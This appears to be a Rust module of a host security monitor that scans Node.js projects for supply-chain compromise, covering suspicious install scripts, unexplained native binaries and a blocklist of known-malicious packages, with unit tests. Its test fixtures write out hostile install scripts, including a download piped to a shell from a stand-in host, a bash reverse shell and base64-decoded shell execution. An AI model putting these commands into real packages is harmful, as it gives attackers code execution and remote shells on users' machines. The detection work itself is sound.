//! `npm`: supply-chain compromise of Node.js projects. When `npm`/`yarn`/`pnpm` finishes an
//! install, the project it installed into is scanned; so is the project a `node` process
//! serves, once per agent run. A package is suspicious when its install script
//! (`preinstall`/`install`/`postinstall`) carries a suspicious idiom ([`super::patterns`]),
//! when it ships a native `.node` binary without being a well-known native package or
//! building it from source, or when its name is on the blocklist. Each finding names package,
//! version, path, script line and a threat level 0–1. High. T1195.002.
//!
//! Scans read the file system, so they run on a thread of their own ([`spawn_scanner`]). A
//! `package.json` is the package author's file: it is read as an untrusted file (at most
//! 1 MiB, a symlink not followed, a FIFO never waited on), and one that is a FIFO, a device or
//! a directory is itself a finding.

use std::{
    collections::HashSet,
    path::{Path, PathBuf},
    sync::mpsc as std_mpsc,
};

use serde::Deserialize;
use tokio::sync::mpsc;
use tracing::debug;

use super::{
    Anomaly, Culprit, Finding,
    patterns::{self, Class},
};
use crate::untrusted_file::{Links, Unreadable, read_text};

/// Known-malicious package names, `name` (every version) or `name@version`. Sources: the npm
/// security advisories / GitHub Advisory Database entries for
/// - the event-stream incident, Nov 2018 (`flatmap-stream`, `event-stream@3.3.6`);
/// - the ua-parser-js hijack, Oct 2021, GHSA-pjwm-rvh2-c87w;
/// - the coa and rc hijacks, Nov 2021, GHSA-73qr-pfmq-6rp8 and GHSA-g2q5-5433-rhrf;
/// - the eslint-scope credential stealer, Jul 2018, GHSA-hxxf-q3w9-4xgw;
/// - the node-ipc protestware, Mar 2022, CVE-2022-23812;
/// - the "crossenv" typosquatting campaign removed by npm in Aug 2017 (npm blog, "crossenv
///   malware on the npm registry");
/// - the chalk/debug maintainer-account compromise, Sep 2025.
pub const BLOCKLIST: &[&str] = &[
    "flatmap-stream",
    "event-stream@3.3.6",
    "ua-parser-js@0.7.29",
    "ua-parser-js@0.8.0",
    "ua-parser-js@1.0.0",
    "coa@2.0.3",
    "coa@2.0.4",
    "coa@2.1.1",
    "coa@2.1.3",
    "coa@3.0.1",
    "coa@3.1.3",
    "rc@1.2.9",
    "rc@1.3.9",
    "rc@2.3.9",
    "eslint-scope@3.7.2",
    "eslint-config-eslint@5.0.2",
    "node-ipc@10.1.1",
    "node-ipc@10.1.2",
    "chalk@5.6.1",
    "debug@4.4.2",
    "crossenv",
    "cross-env.js",
    "d3.js",
    "fabric-js",
    "ffmepg",
    "gruntcli",
    "http-proxy.js",
    "jquery.js",
    "mongose",
    "mssql.js",
    "mssql-node",
    "mysqljs",
    "nodecaffe",
    "nodefabric",
    "node-fabric",
    "nodeffmpeg",
    "nodemailer-js",
    "nodemailer.js",
    "nodemssql",
    "noderequest",
    "nodesass",
    "nodesqlite",
    "shadowsock",
    "sqlite.js",
    "sqliter",
];

/// Packages that ship prebuilt native `.node` binaries legitimately (names or `@scope/`
/// prefixes).
const WELL_KNOWN_NATIVE: &[&str] = &[
    "@swc/",
    "@next/swc-",
    "@parcel/",
    "@rollup/rollup-",
    "@napi-rs/",
    "@img/sharp-",
    "@tensorflow/",
    "@grpc/",
    "@serialport/",
    "@prisma/",
    "lightningcss-",
    "sharp",
    "bcrypt",
    "better-sqlite3",
    "sqlite3",
    "canvas",
    "node-pty",
    "fsevents",
    "re2",
    "bufferutil",
    "utf-8-validate",
    "cpu-features",
    "ssh2",
    "argon2",
    "leveldown",
    "classic-level",
    "microtime",
    "deasync",
    "farmhash",
    "node-sass",
    "sass-embedded",
    "usb",
    "keytar",
    "node-expat",
];

/// `[npm]`.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct NpmConfig {
    /// More package names to treat as malicious (`name` or `name@version`), on top of the
    /// built-in list.
    pub blocklist: Vec<String>,
}

impl NpmConfig {
    pub fn problems(&self) -> Vec<(&'static str, String)> {
        self.blocklist
            .iter()
            .filter(|e| !valid_entry(e))
            .map(|e| {
                (
                    "npm.blocklist",
                    format!("{e:?} is not a package name or name@version"),
                )
            })
            .collect()
    }
}

/// `name`, `@scope/name`, either with `@version`.
fn valid_entry(entry: &str) -> bool {
    let name = match entry.rsplit_once('@') {
        Some((name, version)) if !name.is_empty() => {
            if version.is_empty() || version.contains(char::is_whitespace) {
                return false;
            }
            name
        }
        _ => entry,
    };
    let bare = match name.strip_prefix('@') {
        Some(scoped) => match scoped.split_once('/') {
            Some((scope, bare)) if !scope.is_empty() => bare,
            _ => return false,
        },
        None => name,
    };
    !bare.is_empty()
        && name.len() <= 214
        && bare
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._~-".contains(c))
}

/// Most packages looked at in one project.
const MAX_PACKAGES: usize = 20_000;
/// Most findings from one scan.
const MAX_FINDINGS: usize = 20;
/// Bytes of one `package.json` read at most (a larger one is not judged).
const MAX_PACKAGE_JSON: u64 = 1024 * 1024;
const INSTALL_SCRIPTS: [&str; 3] = ["preinstall", "install", "postinstall"];

/// A suspicious package.
#[derive(Debug, Clone, PartialEq)]
pub struct Report {
    pub name: String,
    pub version: String,
    pub path: PathBuf,
    /// Why, e.g. `postinstall: curl … | sh (download piped to a shell)`.
    pub why: String,
    /// 0–1: 1 blocklisted, 0.9 a reverse shell or miner in an install script, 0.8 another
    /// suspicious install script, 0.5 an unexplained native binary or a `package.json` that
    /// is a FIFO, a device or a directory.
    pub threat: f64,
}

#[derive(Debug, Deserialize, Default)]
#[serde(default)]
struct PackageJson {
    name: String,
    version: String,
    scripts: std::collections::BTreeMap<String, serde_json::Value>,
    gypfile: bool,
}

/// Whether `comm`/`argv` is a package manager installing (`npm install`, `npm ci`,
/// `yarn add`, `pnpm i`, also `node /usr/bin/npm install`).
pub fn is_install(comm: &str, argv: &[String]) -> bool {
    let managers = [
        "npm",
        "npm-cli.js",
        "yarn",
        "yarn.js",
        "yarn.cjs",
        "pnpm",
        "pnpm.cjs",
    ];
    let mut args = argv.iter().map(|a| super::base_name(a));
    let first = args.next().unwrap_or_default();
    let found = if managers.contains(&comm) || managers.contains(&first) {
        true
    } else {
        // `node /usr/bin/npm install`: the manager is the script.
        args.next().is_some_and(|a| managers.contains(&a))
    };
    found
        && argv.iter().skip(1).any(|a| {
            matches!(
                a.as_str(),
                "install" | "i" | "ci" | "add" | "update" | "up" | "rebuild"
            )
        })
}

/// `name@version` or `name` on the blocklist (`extra` adds to the built-in one).
pub fn blocklisted(name: &str, version: &str, extra: &[String]) -> bool {
    let pinned = format!("{name}@{version}");
    BLOCKLIST
        .iter()
        .copied()
        .chain(extra.iter().map(String::as_str))
        .any(|e| e == name || e == pinned)
}

fn well_known_native(name: &str) -> bool {
    WELL_KNOWN_NATIVE.iter().any(|w| {
        if w.ends_with('/') || w.ends_with('-') {
            name.starts_with(w)
        } else {
            name == *w
        }
    })
}

/// Judge one package directory.
pub fn judge_package(dir: &Path, extra: &[String]) -> Option<Report> {
    // The package's files are the package author's: a symlink is refused (`/dev/zero` would
    // never end), a FIFO not waited on.
    let text = match read_text(&dir.join("package.json"), Links::Refuse, MAX_PACKAGE_JSON) {
        Ok(text) => text,
        Err(e) if e.is_trap() => return Some(trap(dir, &e)),
        Err(e) => {
            debug!(package = %dir.display(), "package.json {e}");
            return None;
        }
    };
    let pkg: PackageJson = serde_json::from_str(&text).ok()?;
    let report = |why: String, threat: f64| Report {
        name: pkg.name.clone(),
        version: pkg.version.clone(),
        path: dir.to_path_buf(),
        why,
        threat,
    };
    if blocklisted(&pkg.name, &pkg.version, extra) {
        return Some(report(
            "on the blocklist of known-malicious packages".into(),
            1.0,
        ));
    }
    let mut worst: Option<Report> = None;
    for hook in INSTALL_SCRIPTS {
        let Some(line) = pkg.scripts.get(hook).and_then(|v| v.as_str()) else {
            continue;
        };
        let hits = patterns::scan(line);
        if hits.is_empty() {
            continue;
        }
        let threat = if hits
            .iter()
            .any(|h| matches!(h.class, Class::Miner | Class::ReverseShell))
        {
            0.9
        } else {
            0.8
        };
        let quoted: String = line.chars().take(200).collect();
        if worst.as_ref().is_none_or(|w| w.threat < threat) {
            worst = Some(report(
                format!("{hook}: {quoted} ({})", patterns::describe(&hits)),
                threat,
            ));
        }
    }
    if worst.is_some() {
        return worst;
    }
    let builds_from_source = pkg.gypfile || dir.join("binding.gyp").exists();
    if !builds_from_source
        && !well_known_native(&pkg.name)
        && let Some(native) = find_native(dir)
    {
        return Some(report(
            format!(
                "ships a native binary {} it does not build from source",
                native.display()
            ),
            0.5,
        ));
    }
    None
}

/// A package whose `package.json` is a FIFO, a device or a directory: no package manager
/// makes one, it is a trap for scanners.
fn trap(dir: &Path, e: &Unreadable) -> Report {
    Report {
        name: dir
            .file_name()
            .map_or_else(String::new, |n| n.to_string_lossy().into_owned()),
        version: "?".into(),
        path: dir.to_path_buf(),
        why: format!("package.json {e}"),
        threat: 0.5,
    }
}

/// A `.node` file in `dir`, outside its own `node_modules` (at most 3 levels down).
fn find_native(dir: &Path) -> Option<PathBuf> {
    fn walk(dir: &Path, depth: u32) -> Option<PathBuf> {
        for entry in std::fs::read_dir(dir).ok()?.flatten() {
            let path = entry.path();
            let ft = entry.file_type().ok()?;
            if ft.is_file() && path.extension().is_some_and(|e| e == "node") {
                return Some(path);
            }
            if ft.is_dir()
                && depth < 3
                && entry.file_name() != "node_modules"
                && let Some(found) = walk(&path, depth + 1)
            {
                return Some(found);
            }
        }
        None
    }
    walk(dir, 0)
}

/// Every package directory below `project/node_modules` (scoped and nested ones too).
pub fn packages(project: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![project.join("node_modules")];
    while let Some(modules) = todo.pop() {
        let Ok(entries) = std::fs::read_dir(&modules) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            let name = entry.file_name();
            let name = name.to_string_lossy();
            if name.starts_with('.') || !path.is_dir() {
                continue;
            }
            let dirs = if name.starts_with('@') {
                std::fs::read_dir(&path)
                    .map(|d| {
                        d.flatten()
                            .map(|e| e.path())
                            .filter(|p| p.is_dir())
                            .collect()
                    })
                    .unwrap_or_default()
            } else {
                vec![path]
            };
            for dir in dirs {
                if out.len() >= MAX_PACKAGES {
                    return out;
                }
                todo.push(dir.join("node_modules"));
                out.push(dir);
            }
        }
    }
    out
}

/// The project a `node` process serves: the nearest directory with `node_modules`, from
/// its script's directory or its working directory upwards.
pub fn project_of(cwd: &Path, argv: &[String]) -> Option<PathBuf> {
    let script = argv
        .iter()
        .skip(1)
        .find(|a| !a.starts_with('-'))
        .map(|a| cwd.join(a))
        .and_then(|p| p.parent().map(Path::to_path_buf));
    script
        .into_iter()
        .chain(std::iter::once(cwd.to_path_buf()))
        .find_map(|start| {
            start
                .ancestors()
                .take(6)
                .find(|d| d.join("node_modules").is_dir())
                .map(Path::to_path_buf)
        })
}

/// A project to scan, and the process that installed or serves it.
#[derive(Debug, Clone)]
pub struct Job {
    pub culprit: Culprit,
    pub project: PathBuf,
    /// `installed` (by a package manager) or `served` (by node).
    pub how: &'static str,
}

/// A finding for a suspicious package.
pub fn finding(job: &Job, r: &Report) -> Finding {
    Finding {
        domain: None,
        anomaly: Anomaly::Npm,
        subject: super::cron::subject(&r.path),
        detail: format!(
            "package {}@{} at {} (project {} {} by {} pid {}), threat {:.1}: {}",
            r.name,
            r.version,
            r.path.display(),
            job.project.display(),
            job.how,
            job.culprit.comm,
            job.culprit.pid,
            r.threat,
            r.why
        ),
        culprit: job.culprit.clone(),
        target: None,
        country: None,
    }
}

/// Scan `job`'s project: a finding per suspicious package not reported before.
pub fn scan(
    job: &Job,
    extra: &[String],
    reported: &mut HashSet<(PathBuf, String)>,
) -> Vec<Finding> {
    packages(&job.project)
        .iter()
        .filter_map(|dir| judge_package(dir, extra))
        .filter(|r| {
            reported.insert((
                r.path.clone(),
                format!("{}@{} {}", r.name, r.version, r.why),
            ))
        })
        .take(MAX_FINDINGS)
        .map(|r| finding(job, &r))
        .collect()
}

/// What the event loop keeps for `npm`: installs in progress (scanned when they end), the
/// projects already scanned for a `node` process, and the scanner's queue.
pub struct Npm {
    scanner: std_mpsc::Sender<Job>,
    installs: std::collections::HashMap<u32, Job>,
    served: HashSet<PathBuf>,
}

/// Projects remembered as scanned at most (then the set starts over).
const MAX_SERVED: usize = 10_000;

impl Npm {
    pub fn new(scanner: std_mpsc::Sender<Job>) -> Self {
        Self {
            scanner,
            installs: Default::default(),
            served: HashSet::new(),
        }
    }

    /// `culprit` exec'd `argv` in the working directory `cwd` reads: a package manager
    /// installing is remembered until it ends; a `node` process has its project scanned
    /// (once per run).
    pub fn on_exec(
        &mut self,
        culprit: &Culprit,
        argv: &[String],
        cwd: impl FnOnce() -> Option<PathBuf>,
    ) {
        if is_install(&culprit.comm, argv) {
            let Some(cwd) = cwd() else { return };
            let project = prefix(argv).map_or(cwd.clone(), |p| cwd.join(p));
            self.installs.insert(
                culprit.pid,
                Job {
                    culprit: culprit.clone(),
                    project,
                    how: "installed",
                },
            );
            return;
        }
        if !super::node_abuse::is_node(&culprit.comm) {
            return;
        }
        let Some(project) = cwd().and_then(|cwd| project_of(&cwd, argv)) else {
            return;
        };
        if self.served.len() >= MAX_SERVED {
            self.served.clear();
        }
        if self.served.insert(project.clone()) {
            let _ = self.scanner.send(Job {
                culprit: culprit.clone(),
                project,
                how: "served",
            });
        }
    }

    /// The process ended: an install it ran is scanned now, with everything in place.
    pub fn on_exit(&mut self, pid: u32) {
        if self.installs.is_empty() {
            return; // nearly always: no install under way
        }
        if let Some(job) = self.installs.remove(&pid) {
            let _ = self.scanner.send(job);
        }
    }
}

/// `--prefix DIR` / `--prefix=DIR` of an npm command line.
fn prefix(argv: &[String]) -> Option<&str> {
    argv.iter().enumerate().find_map(|(i, a)| {
        a.strip_prefix("--prefix=").or_else(|| {
            (a == "--prefix")
                .then(|| argv.get(i + 1).map(String::as_str))
                .flatten()
        })
    })
}

/// The scanner thread: takes jobs, sends findings to the event loop.
pub fn spawn_scanner(
    extra: Vec<String>,
    found: mpsc::UnboundedSender<super::Work>,
) -> std_mpsc::Sender<Job> {
    let (tx, rx) = std_mpsc::channel::<Job>();
    std::thread::Builder::new()
        .name("npm-scan".into())
        .spawn(move || {
            let mut reported = HashSet::new();
            for job in rx {
                let findings = scan(&job, &extra, &mut reported);
                debug!(project = %job.project.display(), found = findings.len(), "npm scan");
                for f in findings {
                    if found.send(super::Work::Found(Box::new(f))).is_err() {
                        return;
                    }
                }
            }
        })
        .expect("spawn the npm-scan thread");
    tx
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::tests::culprit;

    fn argv(s: &str) -> Vec<String> {
        s.split(' ').map(String::from).collect()
    }

    fn package(root: &Path, name: &str, json: &str) -> PathBuf {
        let dir = root.join("node_modules").join(name);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("package.json"), json).unwrap();
        dir
    }

    #[test]
    fn installs_are_recognised() {
        assert!(is_install("npm", &argv("npm install --offline ./fixture")));
        assert!(is_install("node", &argv("node /usr/bin/npm ci")));
        assert!(is_install(
            "node",
            &argv("node /usr/lib/node_modules/npm/bin/npm-cli.js i x")
        ));
        assert!(is_install("yarn", &argv("yarn add left-pad")));
        assert!(!is_install("npm", &argv("npm run build")));
        assert!(!is_install("node", &argv("node server.js install")));
    }

    #[test]
    fn blocklist_by_name_or_pinned_version() {
        assert!(blocklisted("flatmap-stream", "0.1.1", &[]));
        assert!(blocklisted("event-stream", "3.3.6", &[]));
        assert!(!blocklisted("event-stream", "4.0.1", &[]));
        assert!(blocklisted("left-pad", "1.3.0", &["left-pad@1.3.0".into()]));
        assert!(!blocklisted("left-pad", "1.3.0", &[]));
    }

    #[test]
    fn suspicious_install_scripts_blocklist_and_native_binaries() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        package(
            root,
            "evil",
            r#"{"name":"evil","version":"1.0.0","scripts":{"postinstall":"curl -s http://x.example/p.sh | sh"}}"#,
        );
        package(
            root,
            "rev",
            r#"{"name":"rev","version":"2.0.0","scripts":{"preinstall":"bash -i >& /dev/tcp/198.51.100.2/4444 0>&1"}}"#,
        );
        package(root, "crossenv", r#"{"name":"crossenv","version":"6.1.1"}"#);
        let native = package(
            root,
            "@acme/fast",
            r#"{"name":"@acme/fast","version":"0.1.0"}"#,
        );
        std::fs::create_dir_all(native.join("build")).unwrap();
        std::fs::write(native.join("build/fast.node"), b"\x7fELF").unwrap();
        // Benign: node-gyp builds, well-known natives, plain packages, nested ones.
        let gyp = package(
            root,
            "addon",
            r#"{"name":"addon","version":"1.0.0","gypfile":true,"scripts":{"install":"node-gyp rebuild"}}"#,
        );
        std::fs::write(gyp.join("addon.node"), b"x").unwrap();
        let sharp = package(
            root,
            "sharp",
            r#"{"name":"sharp","version":"0.33.0","scripts":{"install":"node install/check"}}"#,
        );
        std::fs::write(sharp.join("sharp.node"), b"x").unwrap();
        let plain = package(root, "lodash", r#"{"name":"lodash","version":"4.17.21"}"#);
        package(
            &plain,
            "inner",
            r#"{"name":"inner","version":"1.0.0","scripts":{"postinstall":"echo dGVzdA== | base64 -d | sh"}}"#,
        );

        let mut reports: Vec<Report> = packages(root)
            .iter()
            .filter_map(|d| judge_package(d, &[]))
            .collect();
        reports.sort_by(|a, b| a.name.cmp(&b.name));
        let got: Vec<(&str, f64)> = reports
            .iter()
            .map(|r| (r.name.as_str(), r.threat))
            .collect();
        assert_eq!(
            got,
            [
                ("@acme/fast", 0.5),
                ("crossenv", 1.0),
                ("evil", 0.8),
                ("inner", 0.8),
                ("rev", 0.9)
            ]
        );
        let evil = reports.iter().find(|r| r.name == "evil").unwrap();
        assert!(evil.why.starts_with("postinstall: curl"), "{}", evil.why);

        // A scan reports each package once per run.
        let job = Job {
            culprit: culprit(5, "npm", &[]),
            project: root.to_path_buf(),
            how: "installed",
        };
        let mut seen = HashSet::new();
        let first = scan(&job, &[], &mut seen);
        assert_eq!(first.len(), 5);
        assert!(first.iter().all(|f| f.anomaly == Anomaly::Npm));
        assert!(
            first
                .iter()
                .any(|f| f.detail.contains("package evil@1.0.0")),
            "{first:?}"
        );
        assert!(scan(&job, &[], &mut seen).is_empty());
    }

    #[test]
    fn a_trapped_package_json_is_answered_at_once_and_a_fifo_is_reported() {
        use crate::untrusted_file::testing::{answers_at_once, mkfifo};
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().to_path_buf();
        for name in ["zero", "fifo", "huge"] {
            std::fs::create_dir_all(root.join("node_modules").join(name)).unwrap();
        }
        let modules = root.join("node_modules");
        std::os::unix::fs::symlink("/dev/zero", modules.join("zero/package.json")).unwrap();
        mkfifo(&modules.join("fifo/package.json"));
        let huge = format!(
            r#"{{"name":"huge","version":"1.0.0","description":"{}","scripts":{{"postinstall":"curl -s http://x.example/p.sh | sh"}}}}"#,
            "x".repeat(MAX_PACKAGE_JSON as usize)
        );
        std::fs::write(modules.join("huge/package.json"), huge).unwrap();
        let job = Job {
            culprit: culprit(5, "node", &[]),
            project: root,
            how: "served",
        };
        let found = answers_at_once(move || scan(&job, &[], &mut HashSet::new()));
        let details: Vec<&str> = found.iter().map(|f| f.detail.as_str()).collect();
        assert_eq!(details.len(), 1, "{details:?}");
        assert!(
            details[0].starts_with("package fifo@? at ")
                && details[0].ends_with("threat 0.5: package.json unreadable: fifo"),
            "{details:?}"
        );
    }

    #[test]
    fn the_served_project_is_found_from_the_script_or_cwd() {
        let dir = tempfile::tempdir().unwrap();
        let app = dir.path().join("app");
        std::fs::create_dir_all(app.join("node_modules")).unwrap();
        std::fs::create_dir_all(app.join("src")).unwrap();
        let cwd = Path::new("/");
        let script = app.join("src/server.js").display().to_string();
        assert_eq!(
            project_of(cwd, &["node".into(), "--inspect".into(), script]),
            Some(app.clone())
        );
        assert_eq!(project_of(&app.join("src"), &argv("node")), Some(app));
    }

    #[test]
    fn an_install_is_scanned_when_it_ends_and_a_served_project_once() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().to_path_buf();
        std::fs::create_dir_all(root.join("node_modules")).unwrap();
        let (tx, rx) = std_mpsc::channel();
        let mut npm = Npm::new(tx);
        let cwd = || Some(root.clone());
        npm.on_exec(
            &culprit(5, "npm", &[]),
            &argv("npm install --prefix=sub ./fixture"),
            cwd,
        );
        assert!(rx.try_recv().is_err(), "scanned before the install ended");
        npm.on_exit(5);
        let job = rx.try_recv().unwrap();
        assert_eq!((job.project, job.how), (root.join("sub"), "installed"));
        for pid in [6, 7] {
            npm.on_exec(&culprit(pid, "node", &[]), &argv("node server.js"), cwd);
        }
        assert_eq!(rx.try_recv().unwrap().project, root);
        assert!(rx.try_recv().is_err(), "one scan per project");
        npm.on_exec(&culprit(8, "python3", &[]), &argv("python3 app.py"), cwd);
        assert!(rx.try_recv().is_err());
    }

    #[test]
    fn bad_blocklist_entries_are_named() {
        let c = NpmConfig {
            blocklist: vec![
                "ok-name".into(),
                "@scope/ok@1.2.3".into(),
                "ok@1.0.0".into(),
                "bad name".into(),
                "@1.0".into(),
                "x@".into(),
            ],
        };
        let bad: Vec<String> = c.problems().into_iter().map(|(_, r)| r).collect();
        assert_eq!(bad.len(), 3, "{bad:?}");
    }
}
